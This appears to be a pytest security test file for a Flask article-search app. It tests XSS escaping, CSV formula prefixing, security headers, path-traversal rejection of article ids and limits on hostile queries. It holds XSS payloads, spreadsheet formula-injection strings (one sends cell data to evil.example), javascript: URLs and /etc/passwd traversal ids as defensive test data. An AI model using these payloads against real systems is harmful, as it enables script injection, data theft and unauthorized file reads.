"""Security of the web app: nothing opened before the first request (T06), scraped XSS payloads
rendered inert (T12), headers on every response (T14), article ids (T15), no write routes
(T16) and hostile queries through the test client (T08)."""

from __future__ import annotations

import builtins
import csv
import io
import os
import re
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote, urlsplit

import html5lib
import pytest
from conftest import app_for, article, build_index

from indexer.article import Article
from searchapp.people import commenters, slug, speakers
from searchapp.urls import safe_url

SEARCHAPP = Path(__file__).resolve().parents[1] / "searchapp"
ATOM = "{http://www.w3.org/2005/Atom}"
MARK = "xsscorpus"

PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    '"><svg onload="window.__pwned=1">',
    "'><svg/onload=window.__pwned=1>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<a href="javascript:window.__pwned=1">click</a>',
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<base href="javascript:/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<!--<img src=x onerror=window.__pwned=1>-->",
    "]]><script>window.__pwned=1</script><![CDATA[",
    "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
BAD_URLS = [
    "javascript:window.__pwned=1", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    "https://example.org/\"><script>window.__pwned=1</script>",
]


def payload_articles() -> list[dict]:
    """One article per payload, the payload in every field; MARK finds them all."""
    out = []
    for n, p in enumerate(PAYLOADS):
        out.append(article(
            id=f"xss-{n}", url=BAD_URLS[n % len(BAD_URLS)],
            headline=f"{p} {MARK} headline", body=f"{p} {MARK} body\n\n{MARK} {p}",
            source=p, published=f"2020-01-{n + 1:02d}", authors=[p], tags=[p],
            captions=[f"{p} {MARK} caption"],
            quotes=[{"text": f"{p} {MARK} quote", "speaker": p}],
            comments=[{"author": p, "text": f"{p} {MARK} comment"}],
        ))
    return out


@pytest.fixture(scope="module")
def xss_index(tmp_path_factory) -> Path:
    records = payload_articles() + [article(id="plain-1", headline="Plain", body="plain text",
                                            url="https://example.org/plain")]
    return build_index(tmp_path_factory.mktemp("xss"), records)


@pytest.fixture(scope="module")
def app(xss_index, tmp_path_factory):
    return app_for(xss_index, tmp_path_factory.mktemp("instance"))


@pytest.fixture
def client(app):
    return app.test_client()


# ---- T06: create_app opens nothing -------------------------------------------------------


def open_under(root: Path) -> set[str]:
    """Paths under `root` held open by this process: descriptors and memory maps."""
    root_s = str(root)
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(root_s):
            found.add(target)
    with open("/proc/self/maps", encoding="utf-8", errors="replace") as maps:
        for line in maps:
            parts = line.split(maxsplit=5)
            if len(parts) == 6 and parts[5].strip().startswith(root_s):
                found.add(parts[5].strip())
    return found


@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="needs Linux /proc")
def test_app_factory_opens_nothing(make_index, make_app):
    index_dir = Path(os.path.realpath(make_index([article(id="one", headline="One",
                                                          body="lonely words")])))
    assert open_under(index_dir) == set()
    app = make_app(index_dir)
    assert open_under(index_dir) == set(), "create_app opened the index"
    # The check can see an open index: the first request opens it.
    assert app.test_client().get("/api/search?q=lonely").get_json()["total"] == 1
    assert open_under(index_dir), "the probe saw nothing even after a search"


# ---- T12: the XSS corpus, rendered ------------------------------------------------------

# Every element and attribute our templates produce; anything else came from data.
TAGS = set("""html head meta title link script body a header div svg rect circle path form label
input button main section nav ul ol li span strong h1 h2 p q code mark article time figure
blockquote figcaption details summary aside footer dl dt dd table thead tbody tr th td
em polyline line text g desc caption""".split())
ATTRS = set("""lang charset name content rel href type title class src defer id tabindex role
action method for value placeholder autocomplete spellcheck open start datetime hidden download
viewBox focusable preserveAspectRatio x y width height rx cx cy r d min max
data-facet data-value data-step data-exclude data-include scope data-start data-end
points stroke fill stroke-width x1 x2 y1 y2 text-anchor maxlength required""".split())
HEAD_ONLY = {"meta", "title", "link", "script"}
URL_ATTRS = {"href", "src", "action"}


def local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


def assert_inert(html_text: str) -> None:
    """No element or attribute from data except <mark>; links only http(s) or relative."""
    root = html5lib.parse(html_text, namespaceHTMLElements=False)
    parents = {child: parent for parent in root.iter() for child in parent}
    head = root.find("head")
    for el in root.iter():
        tag = local(el.tag) if isinstance(el.tag, str) else "#comment"
        if tag == "#comment":
            continue
        assert tag in TAGS, f"<{tag}> came from data"
        for name, value in el.attrib.items():
            name = local(name)
            assert name in ATTRS or name.startswith("aria-"), f"attribute {name} on <{tag}>"
            if name in URL_ATTRS:
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in ("", "http", "https"), f'{name}="{value}" on <{tag}>'
                assert not value.strip().startswith("//"), f'{name}="{value}"'
        in_svg = tag == "title" and el.tag.startswith("{http://www.w3.org/2000/svg}")
        if tag in HEAD_ONLY and not in_svg:  # an SVG <title> names a chart's point
            assert parents.get(el) is head, f"<{tag}> outside <head>"
        if tag == "script":
            assert el.get("src") == "/static/app.js" and not (el.text or "").strip()
        if tag == "mark":
            assert len(el) == 0, "an element inside <mark>"
        if tag in ("svg", "rect", "circle", "path", "polyline", "line", "text", "g") or in_svg:
            svg = el
            while local(svg.tag) != "svg":
                svg = parents[svg]
            owner = parents[svg]
            assert (svg.get("class") or "") in ("logo", "compare-chart", "swatch") or (
                owner.get("class") or "") in ("bar", "bar selected", "facet-person", "tbar",
                                              "tbar none"), "an <svg> from data"


def rendered_pages(client) -> dict[str, str]:
    sizes = "&".join(f"{f}_size=100" for f in ("source", "speaker", "commenter", "author", "tag"))
    urls = [f"/search?q={MARK}&per_page=100", f"/search?q={MARK}&scope=quotes&per_page=100",
            f"/search?q={MARK}&scope=comments&per_page=100", f"/search?per_page=100&{sizes}",
            f"/search?q={MARK}&source={quote(PAYLOADS[1])}&author={quote(PAYLOADS[2])}"]
    urls += [f"/articles/xss-{n}?q={MARK}" for n in range(len(PAYLOADS))]
    urls += [f"/articles/xss-{n}" for n in range(len(PAYLOADS))]
    urls += [f"/search?q={quote(p)}" for p in PAYLOADS]
    urls += [f"/search?sort={quote(p)}" for p in PAYLOADS[:6]]  # echoed in a 400 page
    urls += [f"/compare?q={quote(p)}&q={MARK}&measure=share" for p in PAYLOADS]
    # Exclusions, searches within facet values, a facet's full page and the people indexes.
    urls += [f"/search?q={MARK}&not_source={quote(PAYLOADS[1])}&not_speaker={quote(p)}"
             f"&speaker_contains={quote(p)}" for p in PAYLOADS]
    urls += [f"/facets/speaker?q={MARK}", f"/facets/tag?q={MARK}&tag_sort=name",
             f"/facets/author?author_contains={quote(PAYLOADS[2])}&not_author={quote(PAYLOADS[3])}",
             "/speakers", f"/commenters?q={MARK}", "/help"]
    out = {}
    for url in urls:
        resp = client.get(url)
        assert resp.status_code in (200, 400), url
        assert resp.mimetype == "text/html"
        out[url] = resp.get_data(as_text=True)
    # The pages of the speakers and commenters the article pages link to, searched too.
    people = sorted({link for url, page in out.items() if url.startswith("/articles/")
                     for link in re.findall(r'href="(/(?:speakers|commenters)/[^"?]+)"', page)})
    # Every person the people model finds among the payloads has its page linked (it
    # takes some payload names for nobody, and two commenters for one case-folded handle).
    expected = set()
    for rec in payload_articles():
        a = Article.from_dict({"path": "x", **rec})
        expected |= {f"/speakers/{slug(p.name)}" for p in speakers(a) if p}
        expected |= {f"/commenters/{slug(p.name)}" for p in commenters(a) if p}
    assert set(people) == expected and len(people) >= len(PAYLOADS) // 2, people
    for url in people + [f"{p}?q={MARK}" for p in people]:
        resp = client.get(url)
        assert resp.status_code == 200, url
        out[url] = resp.get_data(as_text=True)
    return out


def test_xss_corpus_rendered_inert(client):
    pages = rendered_pages(client)
    for url, page in pages.items():
        try:
            assert_inert(page)
        except AssertionError as e:
            raise AssertionError(f"{url}: {e}") from None
    # and the payloads are there, as text
    page = html5lib.parse(pages[f"/articles/xss-0?q={MARK}"], namespaceHTMLElements=False)
    h1 = page.find(".//h1")
    assert "".join(h1.itertext()) == f"{PAYLOADS[0]} {MARK} headline"


def test_inert_check_can_fail():
    """The checker above rejects what an unescaped payload would produce."""
    good = "<html><head><script src='/static/app.js'></script></head><body><p>x</p></body></html>"
    assert_inert(good)
    for bad in ('<p><img src=x onerror="alert(1)"></p>', "<p><script>alert(1)</script></p>",
                '<a href="javascript:alert(1)">x</a>', '<p><svg onload="x"></svg></p>',
                "<mark><b>x</b></mark>", '<p title="" onclick="x">y</p>'):
        with pytest.raises(AssertionError):
            assert_inert(good.replace("<p>x</p>", bad))


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)",
                                 " javascript:alert(1)", "java\tscript:alert(1)",
                                 "data:text/html,x", "vbscript:x", "//evil.example/",
                                 "/relative", "ftp://example.org/", "https:", "http:///x", "",
                                 None, "http://[::1", "mailto:a@b.c"])
def test_safe_url_rejects(url):
    assert safe_url(url) is None


@pytest.mark.parametrize("url", ["http://example.org/a?b=1&c=2", "HTTPS://Example.org/",
                                 "https://example.org/\"><script>"])
def test_safe_url_keeps_http(url):
    assert safe_url(url) == url


def test_unsafe_urls_are_never_linked(app, client):
    """Even if a javascript: URL reached the index, the templates link only http(s)."""
    from dataclasses import replace

    from flask import render_template

    from searchapp.app import get_backend
    from searchapp.search.params import SearchParams
    from searchapp.search.service import article_page, run_search

    with app.test_request_context("/search?q=plain"):
        backend = get_backend()
        params = SearchParams.from_args({"q": "plain"})
        response = run_search(backend, params, scope_counts=True)
        view = article_page(backend, "plain-1", params)
        for url in BAD_URLS[:5]:
            response.results[0] = replace(response.results[0], url=url)
            view.article = replace(view.article, url=url)
            for page in (render_template("search/results.html", response=response,
                                         params=params),
                         render_template("article/detail.html", view=view, params=params)):
                assert_inert(page)
                assert "class=\"original\"" not in page


def test_atom_feed_parses_and_escapes(client):
    for url in [f"/feed.atom?q={MARK}"] + [f"/feed.atom?q={quote(p)}" for p in PAYLOADS]:
        resp = client.get(url)
        assert resp.status_code == 200
        feed = ET.fromstring(resp.get_data())
        assert feed.tag == f"{ATOM}feed"
        for link in feed.iter(f"{ATOM}link"):
            assert urlsplit(link.get("href")).scheme in ("http", "https")
        for el in feed.iter():
            assert el.tag.startswith(ATOM), f"element {el.tag} from data"
    feed = ET.fromstring(client.get(f"/feed.atom?q={MARK}").get_data())
    titles = {e.findtext(f"{ATOM}title") for e in feed.iter(f"{ATOM}entry")}
    assert titles == {f"{p} {MARK} headline" for p in PAYLOADS}


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_prefixes_formulas(client):
    resp = client.get(f"/export.csv?q={MARK}")
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    header, rows = rows[0], rows[1:]
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    by_id = {r[header.index("id")]: dict(zip(header, r, strict=True)) for r in rows}
    for n, p in enumerate(PAYLOADS):
        rec = by_id[f"xss-{n}"]
        expect = "'" + p if p.startswith(FORMULA) else p
        assert rec["source"] == expect
        assert rec["headline"] == expect + f" {MARK} headline"


# ---- T14: headers everywhere -------------------------------------------------------------


def assert_security_headers(resp, where: str) -> None:
    csp = resp.headers.get("Content-Security-Policy", "")
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives.get("default-src") == ["'self'"], where
    assert directives.get("object-src") == ["'none'"], where
    assert directives.get("base-uri") == ["'none'"], where
    assert directives.get("frame-ancestors") == ["'none'"], where
    assert directives.get("form-action") == ["'self'"], where
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, where
    assert "'unsafe" not in " ".join(directives.get("script-src", [])), where
    assert resp.headers.get("X-Content-Type-Options") == "nosniff", where
    assert resp.headers.get("Referrer-Policy") == "no-referrer", where
    assert resp.headers.get("X-Frame-Options") == "DENY", where


@pytest.mark.parametrize("method, url, status", [
    ("GET", "/", 200), ("GET", f"/search?q={MARK}", 200), ("GET", "/articles/xss-1", 200),
    ("GET", f"/api/search?q={MARK}", 200), ("GET", "/api/articles/xss-1", 200),
    ("GET", "/healthz", 200), ("GET", "/static/style.css", 200),
    ("GET", f"/export.csv?q={MARK}", 200), ("GET", f"/export.jsonl?q={MARK}", 200),
    ("GET", f"/feed.atom?q={MARK}", 200),
    ("GET", "/search?page=0", 400), ("GET", "/api/search?sort=x", 400),
    ("GET", "/export.csv?scope=x", 400),
    ("GET", "/articles/nope", 404), ("GET", "/api/articles/nope", 404), ("GET", "/nope", 404),
    ("POST", "/search", 405), ("DELETE", "/api/articles/xss-1", 405),
])
def test_security_headers_everywhere(client, method, url, status):
    with client.open(url, method=method) as resp:
        assert resp.status_code == status
        assert_security_headers(resp, url)
        if url.startswith(("/search", "/api/", "/export", "/feed", "/articles")):
            assert resp.headers.get("Cache-Control") == "no-store"


def test_security_headers_on_503(make_app, tmp_path):
    c = make_app(tmp_path / "no-index").test_client()
    for url in ("/search", "/api/search", "/healthz", "/export.csv", "/articles/a"):
        resp = c.get(url)
        assert resp.status_code == 503
        assert_security_headers(resp, url)


def test_unexpected_error_is_a_plain_500(app, monkeypatch):
    from searchapp.views import search as search_view

    def boom(*args, **kwargs):
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr(search_view, "run_search", boom)
    app.logger.disabled = True
    try:
        resp = app.test_client().get("/search?q=x")
    finally:
        app.logger.disabled = False
    assert resp.status_code == 500
    assert_security_headers(resp, "500")
    body = resp.get_data(as_text=True)
    assert "secret internal detail" not in body and "Traceback" not in body
    assert "The search failed unexpectedly" in body


# ---- T15: article ids ---------------------------------------------------------------------


def traversal_ids(secret: Path) -> list[str]:
    rel = os.path.relpath(secret, Path.cwd())
    return [
        "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252fetc%252fpasswd", "..\\..\\etc\\passwd", "/etc/passwd", "//etc/passwd",
        str(secret), quote(str(secret), safe=""), rel, "../" * 12 + str(secret).lstrip("/"),
        "xss-1/../../secret.txt", "xss-1%00", "%00", "a%00b", "xss-1%0a", "a" * 10240,
        "a" * 121, "CON", "con", "nul", "aux", "com1", "lpt1.txt", "XSS-1", "-xss", "xss_1",
        "xss-1.json", "%E2%80%AEevil", "xss-1%20",
    ]


def test_article_id_validation(client, tmp_path, monkeypatch, xss_index):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT root:x:0:0")
    client.get("/articles/warm-up-404")  # load templates before recording opens
    client.get("/api/articles/warm-up-404")
    opened: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def rec_open(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    def rec_os_open(path, *args, **kwargs):
        opened.append(str(path))
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", rec_open)
    monkeypatch.setattr(os, "open", rec_os_open)
    for article_id in traversal_ids(secret):
        for prefix in ("/articles/", "/api/articles/"):
            started = time.perf_counter()
            resp = client.get(prefix + article_id)
            if resp.status_code == 308:  # Werkzeug merges '//' by redirecting within the app
                location = urlsplit(resp.headers["Location"])
                assert location.netloc in ("", "localhost") and location.path.startswith(prefix)
                resp = client.get(prefix + article_id, follow_redirects=True)
            assert resp.status_code == 404, (prefix, article_id[:60])
            body = resp.get_data(as_text=True)
            assert "TOP-SECRET" not in body and "root:x:0:0" not in body
            assert time.perf_counter() - started < 2
    monkeypatch.undo()
    allowed = (str(Path(os.path.realpath(xss_index))), str(SEARCHAPP))
    outside = [p for p in opened if not os.path.realpath(p).startswith(allowed)]
    assert outside == []


# ---- T16: no write routes -----------------------------------------------------------------


# The only routes that write: saved searches, in their own SQLite file (never the index).
SAVED_WRITES = {"saved.saved_add", "saved.api_add", "saved.saved_delete", "saved.api_delete"}


def test_no_write_routes(app):
    client = app.test_client()
    endpoints = set()
    for rule in app.url_map.iter_rules():
        if rule.endpoint in SAVED_WRITES:
            assert rule.rule.startswith(("/saved", "/api/saved")), rule.rule
            endpoints.add(rule.endpoint)
            continue
        assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, (rule.rule, rule.methods)
        assert not re.search(r"reindex|update|delete|admin|upload|write|build", rule.rule)
        endpoints.add(rule.endpoint)
        if rule.endpoint == "static":
            continue
        url = re.sub(r"<[^>]+>", "xss-1", rule.rule)
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            if url in ("/saved", "/api/saved") and method == "POST":
                continue  # saving (SAVED_WRITES)
            if url.startswith("/api/saved/") and method == "DELETE":
                continue
            assert client.open(url, method=method).status_code == 405, (method, url)
    assert endpoints == {"static", "search.search", "article.article", "api.search",
                         "api.article", "api.similar", "api.healthz", "export.export_csv",
                         "export.export_jsonl", "export.feed", "people.page", "people.api",
                         "people.export_csv", "people.export_jsonl", "people.feed",
                         "facets.facet", "facets.facet_json", "facets.people",
                         "facets.people_json", "facets.help_page", "compare.page",
                         "compare.as_csv", "compare.as_json", "saved.saved_list",
                         "saved.api_list", "saved.saved_feed", "saved.saved_open",
                         *SAVED_WRITES}


# ---- T08: hostile queries ------------------------------------------------------------------

HOSTILE = [  # (query string, a notice must say what was changed)
    ("q=" + "a" * 10_000, True),
    ("q=" + "(" * 2_000, True),
    ("q=" + quote(" OR ".join(["x"] * 5_000)), True),
    ("q=" + quote(" OR ".join(f"w{i}" for i in range(5_000))), True),
    ("q=*", True), ("q=*a*", True), ("q=%3F*%3F*%3F*", True),
    ("q=" + quote("body:[a TO z]"), True),
    ("q=" + quote("date:[0000-00-00 TO 9999-99-99]"), False),
    ("q=" + "\"" * 3_001, True),
    ("q=" + quote("a~9 b^99 c~ ~ ^ :"), False),
    ("q=%00", False), ("q=x%00y", False), ("q=%ED%A0%80", False), ("q=%ud800", False),
    ("q=%FF%FE%FD", False), ("q=" + quote("\u202e\u0000\u001b[31m"), False),
    ("per_page=1000000", True), ("page=1000000000", True),
    ("q=xsscorpus&page=1000000000&per_page=1000000", True),
    ("source=" + "x" * 300, False),
    ("q=" + "ab" * 255 + "*", False),
]


@pytest.mark.parametrize("args, notice", HOSTILE, ids=lambda a: str(a)[:24])
def test_query_limits(client, args, notice):
    for route in ("/search", "/api/search", "/export.csv", "/feed.atom"):
        started = time.perf_counter()
        resp = client.get(f"{route}?{args}")
        assert resp.status_code in (200, 400), (route, resp.status_code)
        assert time.perf_counter() - started < 10, route  # a hang guard, not a benchmark
        if resp.status_code == 400:
            message = resp.get_json()["error"] if route.startswith("/api/") else re.search(
                r'<p class="error-message">(.*?)</p>', resp.get_data(as_text=True)).group(1)
            assert message.endswith(".") and len(message) < 300
            continue
        if route == "/api/search":
            body = resp.get_json()
            if notice:
                assert body["notices"], f"no notice for {args[:40]}"
            assert "\x00" not in body["query"] and "\ud800" not in body["query"]
        if route == "/search" and notice:
            assert 'class="notice"' in resp.get_data(as_text=True)


def test_prefix_expansion_is_capped(make_index, make_app):
    words = " ".join(f"ab{n:04d}x" for n in range(1_500))
    app = make_app(make_index([article(id="many", headline="Many ab words", body=words),
                               article(id="other", headline="Other", body="ab0001x")]))
    body = app.test_client().get("/api/search?q=ab*").get_json()
    assert body["total"] == 2
    assert any("too many words" in n for n in body["notices"]), body["notices"]


# ---- templates: no |safe, no inline script or style --------------------------------------


def test_templates_have_no_safe_filter_or_inline_code():
    for path in (SEARCHAPP / "templates").rglob("*"):
        if not path.is_file():
            continue
        src = path.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b", src), path
        assert not re.search(r"<script(?![^>]*\bsrc=)", src), path
        assert not re.search(r"<style\b", src), path
        assert not re.search(r"\sstyle=|\son[a-z]+=", src), path
